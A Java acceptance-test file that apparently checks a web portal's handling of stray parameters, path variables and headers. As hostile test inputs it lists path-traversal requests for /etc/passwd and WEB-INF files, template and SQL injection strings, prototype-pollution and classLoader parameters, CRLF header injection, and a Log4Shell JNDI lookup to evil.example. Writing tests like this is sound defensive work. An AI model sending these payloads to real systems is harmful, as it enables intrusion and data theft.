// SPDX-License-Identifier: Apache-2.0
package org.qiantang.portal.acceptance.hostile;

import java.util.List;
import java.util.stream.Stream;

/**
 * Parameters that mean nothing to the portal. A page ignores them, so that links with marks of campaigns work; a portlet
 * gets those of its own as they are. Neither may make a difference to anything else.
 */
final class OtherParameters {
    private static final String IGNORED = "a page ignores parameters that it does not know";
    private static final String ITS_OWN = "a portlet's own parameter, which it has to judge";

    private static final List<String> NAMES = List.of(
            HostileRequest.MARK,
            "__proto__",
            "constructor",
            "%24%7B7*7%7D",
            "%23%7B7*7%7D",
            "%7B%7B7*7%7D%7D",
            "thing[]",
            "thing%5B0%5D",
            "_csrf",
            "_method",
            "__",
            "_",
            "_ACTION",
            "_action%20",
            "%20_action",
            "_actions",
            "_.a",
            "__pm0:x",
            "%EF%BC%BFaction",
            "jsessionid",
            "password",
            "%F0%9F%98%80",
            "%E2%80%AE",
            "a".repeat(4_000));

    private static final List<String> COMMANDS_IN_VAIN = List.of(
            "_answer=partial",
            "_answer=nonsense",
            "_id=..%2f..%2fetc%2fpasswd",
            "_cache=nonsense",
            "_token=" + HostileRequest.MARK,
            "_id",
            "_cache",
            "_token",
            "_answer");

    private static final List<String> IDS = List.of(
            "",
            "..%2f..%2fWEB-INF%2fportlet.xml",
            "%2fetc%2fpasswd",
            "c:%5cboot.ini",
            HostileRequest.MARK,
            "%24%7B7*7%7D",
            "a%0d%0ab",
            "a".repeat(4_000),
            "jakarta.faces.resource%2f..%2f");

    private OtherParameters() {}

    static Stream<HostileRequest> all() {
        return Stream.of(unknown(), withoutValue(), windowsOfNames(), resourceIds(), pathVariables(), headers())
                .flatMap(requests -> requests);
    }

    private static Stream<HostileRequest> unknown() {
        Stream<String> names =
                NAMES.stream().flatMap(name -> Stream.of(name + "=1", name).distinct());
        return Stream.concat(names, COMMANDS_IN_VAIN.stream())
                .map(part -> HostileRequest.get("unknown parameter", "/guard?" + part)
                        .harmless(IGNORED, 200));
    }

    private static Stream<HostileRequest> withoutValue() {
        return Stream.of(
                        "thing",
                        "thing&thing",
                        "thing=&thing",
                        "spy.",
                        "spy.a",
                        "spy.a&spy.a=",
                        "spy.thing",
                        "spy!",
                        "spy!a",
                        "spy.=",
                        "q",
                        "q&q",
                        "thing=" + HostileRequest.MARK,
                        "spy." + HostileRequest.MARK,
                        "spy.a=" + HostileRequest.MARK,
                        "spy.__proto__=1",
                        "spy.a.b:c!d=1")
                .flatMap(part -> Stream.of(
                                "/guard?",
                                "/guard?_window=spy&",
                                "/guard?_resource=spy&",
                                "/guard?_resource=spy&_cache=cacheLevelPortlet&",
                                "/en/guard?spy:state=maximized&")
                        .map(begin -> HostileRequest.get("parameter without value", begin + part)
                                .harmless(ITS_OWN, 200)));
    }

    /** What looks like a window's parameter names a window that is not there. */
    private static Stream<HostileRequest> windowsOfNames() {
        return Stream.of(
                        "class.classLoader",
                        "class.module.classLoader.resources=1",
                        ".a",
                        "!a",
                        ":a",
                        ":mode=edit",
                        ".",
                        "jakarta.servlet.include.request_uri=/",
                        "a.b",
                        "a:b=c",
                        "http:%2f%2fevil.example",
                        "thing.a=1",
                        "%0d%0aSet-Cookie:%20a=b",
                        "jakarta%2Eportlet")
                .map(part -> HostileRequest.get("parameter of no window", "/guard?" + part, 404));
    }

    private static Stream<HostileRequest> resourceIds() {
        return IDS.stream().map(id -> HostileRequest.get("resource id", "/guard?_resource=spy&_id=" + id)
                .harmless(ITS_OWN, 200));
    }

    private static Stream<HostileRequest> pathVariables() {
        Stream<HostileRequest> values = Stream.of(
                        HostileRequest.MARK,
                        "%24%7B7*7%7D",
                        "-1",
                        "%2e%2e%2e",
                        "%0d%0a",
                        "%F0%9F%98%80",
                        "%E2%80%AE",
                        "a".repeat(2_000),
                        "'%20or%20'1'='1",
                        "con",
                        "*",
                        "%25",
                        "%2500",
                        "%252e%252e",
                        "__proto__",
                        "+")
                .flatMap(value -> Stream.of("/things/", "/en/things/")
                        .map(page -> HostileRequest.get("path variable", page + value)
                                .harmless(ITS_OWN, 200)));
        Stream<HostileRequest> none = Stream.of(
                        "%2e", "%2e%2e", "%2f", "a%2fb", "%2f..%2f", "", "a/b", "a//", "./a/b", "a;b", ";")
                .map(value -> HostileRequest.get("path variable", "/things/" + value, 301, 400, 404));
        return Stream.concat(values, none);
    }

    private static Stream<HostileRequest> headers() {
        String why = "a page does not look at this header";
        return Stream.of(
                        "Cookie: JSESSIONID=nonsense",
                        "Cookie: JSESSIONID=../../x",
                        "Cookie: JSESSIONID=",
                        "Cookie: =x; ;;a",
                        "Cookie: $Version=1; JSESSIONID=\"<hostile>\"",
                        "Accept-Language: <hostile>",
                        "Accept: ../../etc/passwd",
                        "Range: bytes=9-1,-5,a",
                        "If-Modified-Since: x",
                        "If-None-Match: *",
                        "Authorization: Basic !!!",
                        "Authorization: Bearer <hostile>",
                        "User-Agent: ${jndi:ldap://evil.example/a}",
                        "Referer: javascript:alert(1)",
                        "Upgrade: nonsense",
                        "Expect: nonsense",
                        "Content-Type: multipart/form-data",
                        "Content-Type: text/html; charset=nonsense",
                        "Content-Type: ;;;",
                        "X-Forwarded-For: <hostile>",
                        "Via: <hostile>",
                        "Accept-Charset: nonsense",
                        "Max-Forwards: -1",
                        "TE: trailers, deflate;q=x",
                        "Connection: X-Nonsense",
                        "Sec-Fetch-Site: <hostile>")
                .map(header ->
                        HostileRequest.get("header", "/guard").with(header).harmless(why, 200));
    }
}
